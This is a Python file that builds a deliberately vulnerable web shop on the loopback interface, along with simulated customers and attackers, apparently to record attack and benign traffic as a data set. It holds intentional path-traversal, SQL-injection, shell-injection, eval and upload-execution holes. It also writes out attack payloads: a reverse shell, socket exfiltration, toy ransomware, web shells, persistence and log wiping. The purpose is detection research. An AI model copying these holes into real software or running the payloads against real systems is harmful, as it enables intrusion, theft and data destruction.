# ruff: noqa: S307, S602, S608  (these are its holes)
"""
A web shop with every hole there is: what C{record.py} records as the data set C{shop}.  Never run it anywhere else.

``python shop.py serve FOLDER`` answers on a port of the loopback interface, with a process for each connection;
`visit` is an ordinary customer's connection, and each of `ATTACKS` one that makes the shop do what it normally
doesn't.  All that attacks touch is in FOLDER and on the loopback interface.
"""

from __future__ import annotations

import contextlib
import hashlib
import http.client
import http.server
import io
import json
import os
import random
import socket
import socketserver
import sqlite3
import subprocess
import sys
import tarfile
import threading
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path

PAGES, PRODUCTS, CUSTOMERS = 40, 400, 60
WORDS = ("lamp", "chair", "table", "clock", "mirror", "shelf", "carpet", "vase", "kettle", "plant")


# --- the shop --------------------------------------------------------------------------------------------


def secretOf(name: str, password: str) -> str:
    return hashlib.pbkdf2_hmac("sha256", password.encode(), name.encode(), 500).hex()


def makeShop(folder: Path, rng: random.Random) -> None:
    """Pages, uploads, a database, and beside them what a shop's machine has: accounts, keys, logs, documents."""
    for name in ("public/images", "uploads", "sessions", "logs", "home/documents", "etc", "backup"):
        (folder / name).mkdir(parents=True)
    for number in range(PAGES):
        (folder / f"public/page{number}.html").write_text("<p>text</p>\n" * rng.randint(5, 4000))
        (folder / f"public/images/{number}.jpg").write_bytes(rng.randbytes(rng.randint(500, 90_000)))
        (folder / f"home/documents/letter{number}.txt").write_bytes(rng.randbytes(rng.randint(200, 30_000)))
    (folder / "etc/passwd").write_text("".join(f"user{n}:x:{n}:{n}::/home/{n}:/bin/sh\n" for n in range(40)))
    (folder / "etc/shadow").write_text("".join(f"user{n}:{rng.randbytes(16).hex()}\n" for n in range(40)))
    (folder / "logs/access.log").write_text("an entry\n" * 2000)
    db = sqlite3.connect(folder / "shop.db")
    db.execute("CREATE TABLE product (id INTEGER PRIMARY KEY, name TEXT, price INTEGER, text TEXT)")
    db.execute("CREATE TABLE customer (name TEXT PRIMARY KEY, secret TEXT, card TEXT)")
    db.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, customer TEXT, product INTEGER)")
    for _ in range(PRODUCTS):
        db.execute(
            "INSERT INTO product (name, price, text) VALUES (?, ?, ?)",
            (rng.choice(WORDS), rng.randint(1, 999), "x" * rng.randint(50, 3000)),
        )
    for number in range(CUSTOMERS):
        name = f"customer{number}"
        db.execute("INSERT INTO customer VALUES (?, ?, ?)", (name, secretOf(name, f"word{number}"), "4" * 16))
    db.commit()
    db.close()


class Shop(http.server.BaseHTTPRequestHandler):
    """Answers one connection; the current folder is the shop's."""

    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        with open("logs/access.log", "a", encoding="utf-8") as log:
            log.write(f"{self.client_address[0]} {format % args}\n")

    def answer(self, body: bytes, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        url = urllib.parse.urlsplit(self.path)
        query = {key: values[0] for key, values in urllib.parse.parse_qs(url.query).items()}
        try:
            self.answer(getattr(self, "get_" + (url.path.strip("/") or "page"))(query))
        except (OSError, AttributeError, KeyError, sqlite3.Error, subprocess.SubprocessError) as error:
            self.answer(str(error).encode(), 404)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        try:
            self.answer(getattr(self, "post_" + self.path.strip("/"))(body))
        except (OSError, AttributeError, KeyError, ValueError, sqlite3.Error, tarfile.TarError) as error:
            self.answer(str(error).encode(), 400)

    def get_page(self, query: dict[str, str]) -> bytes:
        # The hole: a name with .. in it.
        return Path("public", query.get("name", "page0.html")).read_bytes()

    def get_index(self, query: dict[str, str]) -> bytes:
        entries = [(entry.name, entry.stat().st_size) for entry in os.scandir("public/" + query.get("folder", ""))]
        return json.dumps(sorted(entries)).encode()

    def get_search(self, query: dict[str, str]) -> bytes:
        with contextlib.closing(sqlite3.connect("shop.db")) as db:
            # The hole: the word becomes part of the statement.
            rows = db.execute(f"SELECT id, name, price FROM product WHERE name LIKE '{query['word']}'").fetchall()
        return json.dumps(rows).encode()

    def get_product(self, query: dict[str, str]) -> bytes:
        with contextlib.closing(sqlite3.connect("shop.db")) as db:
            row = db.execute("SELECT * FROM product WHERE id = ?", (int(query["id"]),)).fetchone()
        return json.dumps(row).encode()

    def get_download(self, query: dict[str, str]) -> bytes:
        # The hole: the name becomes part of a shell's command.
        return subprocess.run(f"gzip -c public/{query['name']}", shell=True, capture_output=True, check=True).stdout

    def get_report(self, query: dict[str, str]) -> bytes:
        command = ["sqlite3", "shop.db", "SELECT product, count(*) FROM orders GROUP BY product"]
        return subprocess.run(command, capture_output=True, check=True).stdout

    def get_greeting(self, query: dict[str, str]) -> bytes:
        # The hole: a template that is evaluated as Python.
        return str(eval(query["template"])).encode()

    def get_plugin(self, query: dict[str, str]) -> bytes:
        # The hole: whatever was uploaded is run.
        command = [sys.executable, "-I", "-S", f"uploads/{query['name']}"]
        return subprocess.run(command, capture_output=True, check=True).stdout

    def post_login(self, body: bytes) -> bytes:
        name, password = json.loads(body)
        with contextlib.closing(sqlite3.connect("shop.db")) as db:
            row = db.execute("SELECT secret FROM customer WHERE name = ?", (name,)).fetchone()
        if row is None or row[0] != secretOf(name, password):
            raise ValueError("wrong name or password")
        session = os.urandom(8).hex()
        Path("sessions", session).write_text(name)
        return session.encode()

    def post_order(self, body: bytes) -> bytes:
        session, product = json.loads(body)
        name = Path("sessions", session).read_text()
        with contextlib.closing(sqlite3.connect("shop.db", timeout=30)) as db:
            db.execute("INSERT INTO orders (customer, product) VALUES (?, ?)", (name, product))
            db.commit()
        return b"thanks"

    def post_upload(self, body: bytes) -> bytes:
        with tarfile.open(fileobj=io.BytesIO(body)) as archive:
            archive.extractall("uploads", filter="data")
        return b"\n".join(name.encode() for name in sorted(os.listdir("uploads")))


class Server(socketserver.ForkingMixIn, http.server.HTTPServer):
    """A process for each connection."""


def stopAtEnd(server: Server) -> None:
    sys.stdin.read()
    server.shutdown()


def serve(folder: Path) -> None:
    """Until standard input is closed; says its port on standard output."""
    os.chdir(folder)
    server = Server(("127.0.0.1", 0), Shop)
    sys.stdout.write(f"{server.server_port}\n")
    sys.stdout.flush()
    threading.Thread(target=stopAtEnd, args=(server,), daemon=True).start()
    server.serve_forever(0.05)


# --- its customers ---------------------------------------------------------------------------------------


class Client:
    """One connection."""

    def __init__(self, port: int) -> None:
        self._connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)

    def get(self, path: str, **query: object) -> bytes:
        self._connection.request("GET", f"/{path}?{urllib.parse.urlencode(query)}")
        return self._connection.getresponse().read()

    def post(self, path: str, body: bytes) -> bytes:
        self._connection.request("POST", f"/{path}", body)
        return self._connection.getresponse().read()

    def close(self) -> None:
        self._connection.close()


def packed(files: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return target.getvalue()


def visit(client: Client, rng: random.Random) -> None:
    """Do as a customer on one connection: a few requests of some kind, now and then a wrong password."""
    for _ in range(1 + int(rng.expovariate(0.5))):
        kind = rng.random()
        if kind < 0.35:
            page = f"page{rng.randrange(PAGES)}.html" if rng.random() < 0.4 else f"images/{rng.randrange(PAGES)}.jpg"
            client.get("page", name=page if rng.random() < 0.95 else "missing.html")
        elif kind < 0.45:
            client.get("index", folder=rng.choice(("", "images")))
        elif kind < 0.65:
            client.get("search", word=rng.choice(WORDS) if rng.random() < 0.8 else f"{rng.choice('lctm')}%")
        elif kind < 0.80:
            client.get("product", id=rng.randint(1, PRODUCTS + 5))
        elif kind < 0.84:
            client.get("download", name=f"page{rng.randrange(PAGES)}.html")
        elif kind < 0.86:
            client.get("report")
        elif kind < 0.90:
            files = {f"photo{rng.randrange(99)}": rng.randbytes(rng.randint(100, 50_000)) for _ in range(2)}
            client.post("upload", packed(files))
        else:
            number = rng.randrange(CUSTOMERS)
            wrong = rng.random() < 0.15
            session = client.post("login", json.dumps([f"customer{number}", f"word{number + wrong}"]).encode())
            if not wrong:
                for _ in range(rng.randint(0, 3)):
                    client.post("order", json.dumps([session.decode(), rng.randint(1, PRODUCTS)]).encode())


# --- and its attackers -----------------------------------------------------------------------------------


@contextlib.contextmanager
def listening() -> Iterator[int]:
    """A port of the loopback interface at which somebody takes what comes, and says a few commands first."""
    commands = b"id\nls -la\ncat etc/passwd\nuname -a\nexit\n"
    with socket.create_server(("127.0.0.1", 0)) as server:

        def take() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    with connection:
                        connection.sendall(commands)
                        while connection.recv(65536):
                            pass

        threading.Thread(target=take, daemon=True).start()
        yield server.getsockname()[1]


def evaluated(client: Client, code: str) -> None:
    """Run Python statements in the shop's own process."""
    client.get("greeting", template=f"exec({code!r})")


def traversal(client: Client, rng: random.Random) -> None:
    """Read files that are none of the shop's pages."""
    for _ in range(rng.randint(1, 8)):
        name = rng.choice(("etc/passwd", "etc/shadow", f"home/documents/letter{rng.randrange(PAGES)}.txt", "shop.db"))
        client.get("page", name=f"../{name}")


def sqlInjection(client: Client, rng: random.Random) -> None:
    """Have the search give all customers with their cards, by a UNION or bit by bit."""
    if rng.random() < 0.5:
        client.get("search", word="' UNION SELECT name, secret, card FROM customer --")
        return
    for at in range(rng.randint(15, 60)):
        client.get("search", word=f"' OR (SELECT substr(card, {at}, 1) FROM customer LIMIT 1) = '4' --")


def guessing(client: Client, rng: random.Random) -> None:
    """Try passwords, one after the other."""
    name = f"customer{rng.randrange(CUSTOMERS)}"
    for guess in range(rng.randint(15, 80)):
        client.post("login", json.dumps([name, f"guess{guess}"]).encode())


def shellInjection(client: Client, rng: random.Random) -> None:
    """Have the shell of a download do more."""
    commands = ["id", "cat etc/passwd", "ls -la home", "uname -a", "ps", "find . -name '*.db'", "cp shop.db public/a"]
    client.get("download", name="page0.html; " + "; ".join(rng.sample(commands, rng.randint(1, 4))))


def reverseShell(client: Client, rng: random.Random) -> None:
    """The shop calls its attacker, who gets a shell."""
    with listening() as port:
        evaluated(
            client,
            f"import socket, os, subprocess\ns = socket.create_connection(('127.0.0.1', {port}))\n"
            f"subprocess.run(['{rng.choice(('sh', 'bash'))}'], stdin=s, stdout=s, stderr=s)",
        )


def scan(client: Client, rng: random.Random) -> None:
    """Look which ports of the loopback interface answer."""
    first = rng.randint(20_000, 60_000)
    evaluated(
        client,
        f"import socket\nfor port in range({first}, {first + rng.randint(10, 150)}):\n"
        "    s = socket.socket()\n    s.settimeout(0.1)\n    s.connect_ex(('127.0.0.1', port))\n    s.close()",
    )


def ransom(client: Client, rng: random.Random) -> None:
    """Encrypt the documents (with a toy cipher) and remove what they were."""
    key = rng.randint(1, 255)
    evaluated(
        client,
        "import os\nfor name in sorted(os.listdir('home/documents')):\n    path = 'home/documents/' + name\n"
        f"    data = bytes(b ^ {key} for b in open(path, 'rb').read())\n"
        "    open(path + '.locked', 'wb').write(data)\n    os.unlink(path)",
    )


def exfiltration(client: Client, rng: random.Random) -> None:
    """Send the documents and the database to somebody."""
    with listening() as port:
        evaluated(
            client,
            f"import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n"
            f"for folder, _, names in os.walk('{rng.choice(('home', 'etc', '.'))}'):\n    for name in names:\n"
            "        s.sendall(open(os.path.join(folder, name), 'rb').read())\ns.close()",
        )


def webShell(client: Client, rng: random.Random) -> None:
    """Upload a program, and run it."""
    code = rng.choice(
        (
            "import os\nfor f in os.listdir('/proc'):\n    print(f)\nprint(open('etc/passwd').read())",
            "import subprocess\nfor c in ('id', 'uname -a', 'cat etc/shadow'):\n    subprocess.run(c, shell=True)",
            "import sqlite3\nprint(sqlite3.connect('shop.db').execute('SELECT * FROM customer').fetchall())",
            "import os, pwd\nprint(os.getuid(), pwd.getpwall(), dict(os.environ))",
        )
    )
    client.post("upload", packed({"photo.py": code.encode()}))
    for _ in range(rng.randint(1, 3)):
        client.get("plugin", name="photo.py")


def tracks(client: Client, rng: random.Random) -> None:
    """Leave a way in and wipe the logs."""
    evaluated(
        client,
        "import os, shutil\nos.makedirs('home/.config/autostart', exist_ok=True)\n"
        "open('home/.config/autostart/update', 'w').write('#!/bin/sh\\nid\\n')\n"
        "os.chmod('home/.config/autostart/update', 0o755)\nopen('home/.profile', 'a').write('update\\n')\n"
        "shutil.copy('shop.db', 'backup/.shop.db')\nos.truncate('logs/access.log', 0)\n"
        f"for name in os.listdir('sessions'):\n    os.utime('sessions/' + name, ({rng.randint(1, 10**9)},) * 2)\n"
        "    os.unlink('sessions/' + name)",
    )


ATTACKS: dict[str, Callable[[Client, random.Random], None]] = {
    "traversal": traversal,
    "shell_injection": shellInjection,
    "guessing": guessing,
    "reverse_shell": reverseShell,
    "sql_injection": sqlInjection,
    "ransom": ransom,
    "scan": scan,
    "exfiltration": exfiltration,
    "web_shell": webShell,
    "tracks": tracks,
}

if __name__ == "__main__":
    serve(Path(sys.argv[2]))
